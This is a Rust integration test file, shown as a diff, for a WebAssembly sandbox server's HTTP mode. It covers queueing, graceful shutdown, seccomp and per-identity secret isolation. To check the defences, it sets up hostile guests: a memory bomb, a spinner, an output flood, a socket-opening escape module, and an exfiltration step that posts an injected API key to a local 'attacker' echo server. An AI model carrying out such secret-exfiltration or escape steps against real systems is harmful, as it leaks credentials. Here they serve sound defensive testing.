@@ -1,0 +1,619 @@
+//! `warden serve`: runs over HTTP, one locked-down worker process per identity, against
+//! hostile neighbours, back-pressure, metrics and a graceful stop. Each test starts its own
+//! server on 127.0.0.1:0 and stops it.
+
+use crate::guests;
+use crate::server::Server;
+use crate::util::{Scene, warden};
+use serde_json::Value;
+use std::io::{BufRead, Read, Write};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Stdio};
+
+const KEY: &str = "sk_live_serve_7d1e";
+
+/// A running `warden serve`.
+struct Serve {
+    child: Child,
+    addr: String,
+    audit: PathBuf,
+    stderr: PathBuf,
+    _stdout: std::io::BufReader<std::process::ChildStdout>,
+}
+
+/// One HTTP answer.
+#[derive(Debug)]
+struct Reply {
+    status: u16,
+    head: String,
+    body: String,
+}
+
+impl Reply {
+    fn json(&self) -> Value {
+        serde_json::from_str(&self.body).unwrap_or_else(|e| panic!("{e}: {self:?}"))
+    }
+}
+
+impl Serve {
+    fn start(s: &Scene, manifests: &[&Path], extra: &[&str]) -> Serve {
+        let audit = s.path("serve-audit.jsonl");
+        let stderr = s.path("serve-stderr.txt");
+        let mut cmd = warden();
+        cmd.arg("serve").arg("--listen").arg("127.0.0.1:0");
+        cmd.arg("--audit").arg(&audit);
+        for m in manifests {
+            cmd.arg("--manifest").arg(m);
+        }
+        cmd.args(extra);
+        cmd.env("WARDEN_TEST_API_KEY", KEY);
+        cmd.stdout(Stdio::piped());
+        cmd.stderr(std::fs::File::create(&stderr).unwrap());
+        let mut child = cmd.spawn().expect("spawn warden serve");
+        let mut stdout = std::io::BufReader::new(child.stdout.take().unwrap());
+        let mut line = String::new();
+        stdout.read_line(&mut line).unwrap();
+        let Some(addr) = line
+            .trim()
+            .rsplit("http://")
+            .next()
+            .filter(|_| !line.is_empty())
+        else {
+            panic!("no address: {line:?}");
+        };
+        assert!(
+            line.contains("serving"),
+            "{line:?}: {}",
+            std::fs::read_to_string(&stderr).unwrap_or_default()
+        );
+        Serve {
+            addr: addr.to_string(),
+            child,
+            audit,
+            stderr,
+            _stdout: stdout,
+        }
+    }
+
+    fn request(&self, method: &str, path: &str, body: &[u8]) -> Reply {
+        let mut conn = std::net::TcpStream::connect(&self.addr).unwrap();
+        let head = format!(
+            "{method} {path} HTTP/1.1\r\nHost: {}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
+            self.addr,
+            body.len()
+        );
+        conn.write_all(head.as_bytes()).unwrap();
+        conn.write_all(body).unwrap();
+        let mut raw = Vec::new();
+        conn.read_to_end(&mut raw).unwrap();
+        let text = String::from_utf8_lossy(&raw).into_owned();
+        let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
+        let status = head
+            .split(' ')
+            .nth(1)
+            .and_then(|s| s.parse().ok())
+            .unwrap_or_else(|| panic!("no status: {text:?}"));
+        Reply {
+            status,
+            head: head.to_string(),
+            body: body.to_string(),
+        }
+    }
+
+    fn run(&self, name: &str, args: &[&str], stdin: &[u8]) -> Reply {
+        let query: Vec<String> = args.iter().map(|a| format!("arg={a}")).collect();
+        let path = format!("/v1/workloads/{name}/runs?{}", query.join("&"));
+        self.request("POST", &path, stdin)
+    }
+
+    fn get(&self, path: &str) -> Reply {
+        self.request("GET", path, b"")
+    }
+
+    /// The value of the metric line that starts with `series` (name and labels).
+    fn metric(&self, series: &str) -> Option<f64> {
+        let text = self.get("/metrics").body;
+        text.lines()
+            .find(|l| l.starts_with(series) && l[series.len()..].starts_with(' '))
+            .and_then(|l| l.rsplit(' ').next())
+            .and_then(|v| v.parse().ok())
+    }
+
+    /// Waits until `series` reaches `value` (the server's own gauges: no clock involved in
+    /// the assertion, only in how long the test waits at most).
+    fn wait_for(&self, series: &str, value: f64) {
+        for _ in 0..2000 {
+            if self.metric(series) == Some(value) {
+                return;
+            }
+            std::thread::sleep(std::time::Duration::from_millis(10));
+        }
+        panic!(
+            "{series} never reached {value}: {}",
+            self.get("/metrics").body
+        );
+    }
+
+    fn audit(&self) -> Vec<Value> {
+        std::fs::read_to_string(&self.audit)
+            .unwrap_or_default()
+            .lines()
+            .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{l:?}: {e}")))
+            .collect()
+    }
+
+    fn stderr(&self) -> String {
+        std::fs::read_to_string(&self.stderr).unwrap_or_default()
+    }
+
+    /// SIGTERM, then the exit code.
+    fn stop(mut self) -> i32 {
+        let ok = std::process::Command::new("kill")
+            .arg("-TERM")
+            .arg(self.child.id().to_string())
+            .status()
+            .unwrap();
+        assert!(ok.success());
+        let status = self.child.wait().unwrap();
+        status.code().unwrap_or(-1)
+    }
+}
+
+impl Drop for Serve {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// A manifest for identity `name` running `module`, with `body` appended.
+fn manifest(s: &Scene, name: &str, module: &str, body: &str) -> PathBuf {
+    s.file(
+        &format!("{name}.warden.toml"),
+        &format!(
+            "[identity]\nname = \"{name}\"\nid = \"spiffe://test.example/{name}\"\n\n\
+             [workload]\nmodule = \"{module}\"\n\n{body}"
+        ),
+    )
+}
+
+/// The exit records of run `run`.
+fn exits<'a>(audit: &'a [Value], run: &str) -> Vec<&'a Value> {
+    audit
+        .iter()
+        .filter(|r| r["event"] == "exit" && r["run"] == run)
+        .collect()
+}
+
+#[test]
+fn runs_answer_with_output_and_code_and_the_server_reports_itself() {
+    let s = Scene::new();
+    let hello = manifest(&s, "hello", guests::HELLO_P1, "");
+    let component = manifest(&s, "hello-p2", guests::HELLO_P2, "");
+    let probe = manifest(&s, "probe", guests::PROBE_P1, "");
+    let serve = Serve::start(&s, &[&hello, &component, &probe], &[]);
+
+    let r = serve.run("hello", &["serve%20me"], b"");
+    assert_eq!(r.status, 200, "{r:?}");
+    let v = r.json();
+    assert_eq!(v["outcome"], "exited");
+    assert_eq!(v["code"], 0);
+    assert_eq!(v["stdout"], "hello, serve me\n");
+    let run = v["run"].as_str().unwrap().to_string();
+    // Arguments pass through in order; the guest's exit code comes back.
+    let v = serve.run("probe", &["args", "a", "b+c"], b"").json();
+    assert_eq!(
+        v["stdout"]
+            .as_str()
+            .unwrap()
+            .lines()
+            .skip(1)
+            .collect::<Vec<_>>(),
+        ["args", "a", "b c"]
+    );
+    let v = serve.run("probe", &["exit", "7"], b"").json();
+    assert_eq!(
+        (v["outcome"].as_str(), v["code"].as_i64()),
+        (Some("exited"), Some(7))
+    );
+
+    let r = serve.run("nobody", &[], b"");
+    assert_eq!(r.status, 404, "{r:?}");
+    assert_eq!(serve.get("/elsewhere").status, 404);
+
+    let list = serve.get("/v1/workloads").json();
+    let names: Vec<&str> = list
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|w| w["name"].as_str().unwrap())
+        .collect();
+    assert_eq!(names, ["hello", "hello-p2", "probe"]);
+    assert_eq!(list[0]["identity"], "spiffe://test.example/hello");
+    assert_eq!(list[0]["kind"], "module");
+    assert_eq!(list[1]["kind"], "component");
+    assert_eq!(list[2]["kind"], "module");
+    assert_eq!(list[0]["sha256"].as_str().unwrap().len(), 64);
+
+    let h = serve.get("/healthz");
+    assert_eq!((h.status, h.body.as_str()), (200, "ok\n"));
+    let text = serve.get("/metrics").body;
+    for line in text.lines().filter(|l| !l.starts_with('#')) {
+        let (series, value) = line.rsplit_once(' ').unwrap();
+        assert!(value.parse::<f64>().is_ok(), "{line}");
+        let name = series.split('{').next().unwrap();
+        assert!(
+            name.starts_with("warden_") && text.contains(&format!("# TYPE {name} "))
+                || name.ends_with("_bucket")
+                || name.ends_with("_sum")
+                || name.ends_with("_count"),
+            "{line}"
+        );
+    }
+    assert_eq!(
+        serve.metric("warden_runs_total{identity=\"hello\",outcome=\"exited\"}"),
+        Some(1.0)
+    );
+    assert_eq!(
+        serve.metric("warden_run_seconds_bucket{identity=\"probe\",le=\"+Inf\"}"),
+        Some(2.0)
+    );
+    assert_eq!(
+        serve.metric("warden_workers{identity=\"hello\"}"),
+        Some(1.0)
+    );
+
+    // The answer's run id is the audit log's, with the identity and an exit record.
+    let audit = serve.audit();
+    let start = audit
+        .iter()
+        .find(|r| r["event"] == "start" && r["run"] == run.as_str())
+        .unwrap();
+    assert_eq!(start["identity"], "spiffe://test.example/hello");
+    assert_eq!(start["seccomp"]["mode"], "enforce");
+    assert_eq!(exits(&audit, &run).len(), 1);
+    assert_eq!(serve.stop(), 0);
+}
+
+#[test]
+fn stdin_reaches_the_guest_only_when_granted() {
+    let s = Scene::new();
+    let granted = manifest(
+        &s,
+        "granted",
+        guests::PROBE_P1,
+        "[stdio]\nstdin = \"inherit\"\n",
+    );
+    let closed = manifest(&s, "closed", guests::PROBE_P1, "");
+    let serve = Serve::start(&s, &[&granted, &closed], &[]);
+    let v = serve.run("granted", &["stdin"], b"twelve bytes").json();
+    assert_eq!(v["stdout"], "stdin=12 bytes\ntwelve bytes", "{v}");
+    // Control: the same body to an identity without the grant reaches nothing.
+    let v = serve.run("closed", &["stdin"], b"twelve bytes").json();
+    assert_eq!(v["stdout"], "stdin=0 bytes\n", "{v}");
+    assert_eq!(serve.stop(), 0);
+}
+
+#[test]
+fn past_the_queue_bound_a_run_gets_429_with_retry_after() {
+    let s = Scene::new();
+    let spin = manifest(&s, "spin", guests::SPIN_P1, "[limits]\nwall = \"1s\"\n");
+    let serve = std::sync::Arc::new(Serve::start(
+        &s,
+        &[&spin],
+        &["--queue", "1", "--max-workers", "1"],
+    ));
+    let first = {
+        let serve = serve.clone();
+        std::thread::spawn(move || serve.run("spin", &[], b""))
+    };
+    serve.wait_for("warden_runs_in_flight{identity=\"spin\"}", 1.0);
+    let second = {
+        let serve = serve.clone();
+        std::thread::spawn(move || serve.run("spin", &[], b""))
+    };
+    serve.wait_for("warden_queued_runs{identity=\"spin\"}", 1.0);
+    let third = serve.run("spin", &[], b"");
+    assert_eq!(third.status, 429, "{third:?}");
+    assert!(
+        third.head.to_ascii_lowercase().contains("retry-after: 1"),
+        "{third:?}"
+    );
+    // Control: the runs within the bound (one running, one queued) are answered.
+    for r in [first.join().unwrap(), second.join().unwrap()] {
+        assert_eq!(r.status, 200, "{r:?}");
+        assert_eq!(r.json()["outcome"], "wall-limit");
+    }
+    assert_eq!(
+        serve.metric("warden_rejections_total{identity=\"spin\"}"),
+        Some(1.0)
+    );
+    let serve = std::sync::Arc::into_inner(serve).unwrap();
+    assert_eq!(serve.stop(), 0);
+}
+
+#[test]
+fn sigterm_finishes_the_run_in_flight_and_exits_0() {
+    let s = Scene::new();
+    let spin = manifest(&s, "spin", guests::SPIN_P1, "[limits]\nwall = \"1s\"\n");
+    let serve = std::sync::Arc::new(Serve::start(&s, &[&spin], &[]));
+    let running = {
+        let serve = serve.clone();
+        std::thread::spawn(move || serve.run("spin", &[], b""))
+    };
+    serve.wait_for("warden_runs_in_flight{identity=\"spin\"}", 1.0);
+    let ok = std::process::Command::new("kill")
+        .arg("-TERM")
+        .arg(serve.child.id().to_string())
+        .status()
+        .unwrap();
+    assert!(ok.success());
+    let r = running.join().unwrap();
+    assert_eq!(r.status, 200, "{r:?}");
+    let v = r.json();
+    assert_eq!(v["outcome"], "wall-limit");
+    let mut serve = std::sync::Arc::into_inner(serve).unwrap();
+    assert_eq!(
+        serve.child.wait().unwrap().code(),
+        Some(0),
+        "{}",
+        serve.stderr()
+    );
+    assert_eq!(exits(&serve.audit(), v["run"].as_str().unwrap()).len(), 1);
+}
+
+#[test]
+fn a_manifest_that_cannot_be_served_stops_the_start_with_one_line() {
+    let s = Scene::new();
+    let a = manifest(&s, "twice", guests::HELLO_P1, "");
+    let b = s.file(
+        "other.warden.toml",
+        &format!(
+            "[identity]\nname = \"twice\"\n\n[workload]\nmodule = \"{}\"\n",
+            guests::HELLO_P1
+        ),
+    );
+    let mut cmd = warden();
+    cmd.args(["serve", "--listen", "127.0.0.1:0", "--manifest"])
+        .arg(&a)
+        .arg("--manifest")
+        .arg(&b);
+    crate::util::finish(cmd, None).assert_one_line_error("names must differ");
+    let missing = manifest(&s, "missing", "/nonexistent/module.wasm", "");
+    let mut cmd = warden();
+    cmd.args(["serve", "--listen", "127.0.0.1:0", "--manifest"])
+        .arg(&missing);
+    crate::util::finish(cmd, None).assert_one_line_error("missing");
+}
+
+/// A core module that calls `warden_test::escape(1)` (open a socket) when it is given an
+/// argument, and otherwise exits 0.
+#[cfg(feature = "test-escape")]
+fn escape_module(s: &Scene) -> String {
+    let wasm = wat::parse_str(
+        r#"(module
+             (import "wasi_snapshot_preview1" "args_sizes_get"
+               (func $sizes (param i32 i32) (result i32)))
+             (import "warden_test" "escape" (func $escape (param i32) (result i32)))
+             (memory (export "memory") 1)
+             (func (export "_start")
+               (drop (call $sizes (i32.const 0) (i32.const 4)))
+               (if (i32.gt_u (i32.load (i32.const 0)) (i32.const 1))
+                 (then (drop (call $escape (i32.const 1)))))))"#,
+    )
+    .unwrap();
+    let path = s.path("escape.wasm");
+    std::fs::write(&path, wasm).unwrap();
+    path.display().to_string()
+}
+
+#[cfg(feature = "test-escape")]
+#[test]
+fn a_worker_killed_by_its_seccomp_filter_is_replaced_and_the_next_run_succeeds() {
+    let s = Scene::new();
+    let module = escape_module(&s);
+    let m = manifest(&s, "escaper", &module, "");
+    let serve = Serve::start(&s, &[&m], &[]);
+    let v = serve.run("escaper", &["go"], b"").json();
+    assert_eq!(
+        (v["outcome"].as_str(), v["code"].as_i64()),
+        (Some("worker-died"), Some(159)),
+        "{v}"
+    );
+    let exit = exits(&serve.audit(), v["run"].as_str().unwrap())
+        .first()
+        .map(|r| (*r).clone())
+        .unwrap();
+    assert_eq!(exit["identity"], "spiffe://test.example/escaper");
+    assert!(
+        exit["message"].as_str().unwrap().contains("SIGSYS"),
+        "{exit}"
+    );
+    let v = serve.run("escaper", &[], b"").json();
+    assert_eq!(
+        (v["outcome"].as_str(), v["code"].as_i64()),
+        (Some("exited"), Some(0)),
+        "{v}"
+    );
+    assert_eq!(
+        serve.metric("warden_worker_restarts_total{identity=\"escaper\"}"),
+        Some(1.0)
+    );
+    assert_eq!(serve.stop(), 0);
+
+    // Control: without the lockdown the same escape goes through and the worker lives on.
+    let s = Scene::new();
+    let m = manifest(&s, "escaper", &module, "");
+    let serve = Serve::start(&s, &[&m], &["--seccomp", "off"]);
+    let v = serve.run("escaper", &["go"], b"").json();
+    assert_eq!(
+        (v["outcome"].as_str(), v["code"].as_i64()),
+        (Some("exited"), Some(0)),
+        "{v}"
+    );
+    assert_eq!(serve.stop(), 0);
+}
+
+#[test]
+fn hostile_identities_cannot_disturb_a_well_behaved_one_and_every_run_is_audited() {
+    let s = Scene::new();
+    let server = Server::start();
+    let attacker = Server::echo();
+    let good = manifest(&s, "good", guests::HELLO_P1, "");
+    #[cfg_attr(not(feature = "test-escape"), allow(unused_mut, clippy::useless_vec))]
+    let mut manifests = vec![
+        good,
+        manifest(
+            &s,
+            "membomb",
+            guests::MEMBOMB_P1,
+            "[limits]\nmemory = \"32MiB\"\n",
+        ),
+        manifest(&s, "spin", guests::SPIN_P1, "[limits]\nwall = \"300ms\"\n"),
+        manifest(
+            &s,
+            "flood",
+            guests::FLOOD_P1,
+            "[limits]\noutput = \"256KiB\"\n",
+        ),
+        manifest(
+            &s,
+            "exfil",
+            guests::NET_PROBE_P2,
+            &format!(
+                "[[http]]\nurl = \"{base}/v1/\"\nmethods = [\"POST\"]\n\n[[http]]\nurl = \"{att}\"\n\
+                 methods = [\"POST\"]\n\n[secrets.api]\nfrom = \"env:WARDEN_TEST_API_KEY\"\n\
+                 inject = {{ header = \"Authorization\", format = \"Bearer {{secret}}\", url = \"{base}/v1/\" }}\n",
+                base = server.url(""),
+                att = attacker.url("/")
+            ),
+        ),
+    ];
+    #[cfg(feature = "test-escape")]
+    manifests.push(manifest(&s, "escaper", &escape_module(&s), ""));
+    let refs: Vec<&Path> = manifests.iter().map(PathBuf::as_path).collect();
+    let serve = std::sync::Arc::new(Serve::start(&s, &refs, &[]));
+    let exfil_step = format!("http-secret POST {} api", attacker.url("/collect"));
+    let hostile: Vec<(&str, Vec<String>)> = vec![
+        ("membomb", vec![]),
+        ("spin", vec![]),
+        ("flood", vec![]),
+        ("exfil", vec![exfil_step.replace(' ', "%20")]),
+        #[cfg(feature = "test-escape")]
+        ("escaper", vec!["go".into()]),
+    ];
+    const HOSTILE_RUNS_EACH: usize = 4;
+    let threads: Vec<_> = hostile
+        .into_iter()
+        .map(|(name, args)| {
+            let serve = serve.clone();
+            std::thread::spawn(move || {
+                let args: Vec<&str> = args.iter().map(String::as_str).collect();
+                (0..HOSTILE_RUNS_EACH)
+                    .map(|_| (name, serve.run(name, &args, b"")))
+                    .collect::<Vec<_>>()
+            })
+        })
+        .collect();
+    let mut answered = Vec::new();
+    for _ in 0..20 {
+        let r = serve.run("good", &["good"], b"");
+        assert_eq!(r.status, 200, "{r:?}");
+        let v = r.json();
+        assert_eq!(
+            (v["outcome"].as_str(), v["stdout"].as_str()),
+            (Some("exited"), Some("hello, good\n"))
+        );
+        answered.push(("good", v));
+    }
+    for t in threads {
+        for (name, r) in t.join().unwrap() {
+            assert!(r.status == 200 || r.status == 429, "{name}: {r:?}");
+            if r.status == 200 {
+                answered.push((name, r.json()));
+            }
+        }
+    }
+    // Control: the hostile runs were hostile (each hit the limit or filter meant for it).
+    let outcome_of = |n: &str| -> Vec<String> {
+        answered
+            .iter()
+            .filter(|(name, _)| *name == n)
+            .map(|(_, v)| v["outcome"].as_str().unwrap().to_string())
+            .collect()
+    };
+    assert!(outcome_of("membomb").iter().all(|o| o == "memory-limit"));
+    assert!(outcome_of("spin").iter().all(|o| o == "wall-limit"));
+    assert!(outcome_of("flood").iter().all(|o| o == "output-limit"));
+    #[cfg(feature = "test-escape")]
+    assert!(outcome_of("escaper").iter().all(|o| o == "worker-died"));
+    assert!(
+        attacker.requests().is_empty(),
+        "the secret left: {:?}",
+        attacker.requests()
+    );
+    assert!(
+        serve
+            .metric("warden_denials_total{identity=\"exfil\",capability=\"secret\"}")
+            .unwrap_or(0.0)
+            >= 1.0
+    );
+    assert_eq!(serve.get("/healthz").status, 200);
+    let audit = serve.audit();
+    for (name, v) in &answered {
+        let run = v["run"].as_str().unwrap();
+        let e = exits(&audit, run);
+        assert_eq!(e.len(), 1, "{name} run {run}: {e:?}");
+        assert_eq!(e[0]["identity"], format!("spiffe://test.example/{name}"));
+        assert_eq!(e[0]["outcome"], v["outcome"]);
+    }
+    // No record reached the log under another identity, nor the secret in any form.
+    let text = std::fs::read_to_string(&serve.audit).unwrap();
+    assert!(!text.contains(KEY));
+    let serve = std::sync::Arc::into_inner(serve).unwrap();
+    assert_eq!(serve.stop(), 0);
+}
+
+/// The worker processes of a server: (pid, the manifest path on its command line, its
+/// environment), read from /proc.
+fn workers(serve: &Serve) -> Vec<(String, String, String)> {
+    let pid = serve.child.id();
+    let mut out = Vec::new();
+    for task in std::fs::read_dir(format!("/proc/{pid}/task")).unwrap() {
+        let children = std::fs::read_to_string(task.unwrap().path().join("children")).unwrap();
+        for child in children.split_whitespace() {
+            let read = |f: &str| {
+                String::from_utf8_lossy(&std::fs::read(format!("/proc/{child}/{f}")).unwrap())
+                    .replace('\0', "\n")
+            };
+            out.push((child.to_string(), read("cmdline"), read("environ")));
+        }
+    }
+    out
+}
+
+#[test]
+fn a_worker_gets_its_own_identitys_env_secrets_and_no_others() {
+    let s = Scene::new();
+    let keeper = manifest(
+        &s,
+        "keeper",
+        guests::NET_PROBE_P2,
+        "[secrets.api]\nfrom = \"env:WARDEN_TEST_API_KEY\"\n",
+    );
+    let other = manifest(&s, "other", guests::HELLO_P1, "");
+    let serve = Serve::start(&s, &[&keeper, &other], &[]);
+    let found = workers(&serve);
+    assert_eq!(found.len(), 2, "{found:?}");
+    for (pid, cmdline, environ) in &found {
+        let has_key = environ.contains(KEY);
+        if cmdline.contains("keeper.warden.toml") {
+            // Control: the identity whose manifest names the variable gets it.
+            assert!(has_key, "worker {pid} of keeper lacks its secret");
+        } else {
+            assert!(cmdline.contains("other.warden.toml"), "{cmdline}");
+            assert!(!has_key, "worker {pid} of `other` holds keeper's secret");
+        }
+    }
+    assert_eq!(serve.stop(), 0);
+}
